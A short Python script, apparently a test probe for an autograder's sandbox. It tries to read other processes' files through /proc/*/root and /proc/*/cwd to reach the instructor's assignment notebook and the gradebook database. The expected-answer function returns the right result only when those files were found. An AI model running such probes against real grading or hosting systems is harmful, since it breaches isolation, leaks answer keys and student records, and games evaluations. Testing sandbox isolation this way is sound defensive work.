# tries: the files of other processes, by the root and the working folder of each
# needs: jail
import glob

found = []
for place in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + ["/proc/1/root", "/proc/ZYGOTE_PID/root"]:
    for name in (
        "COURSE_ROOT/source/09_attacked/attacked.ipynb",
        "/source/09_attacked/attacked.ipynb",
        "/gradebook.db",
    ):
        try:
            found.append(open(place + name, encoding="latin-1").read())
        except OSError:
            pass
print("\n".join(found))

double = lambda x: 2 * x if found else 0
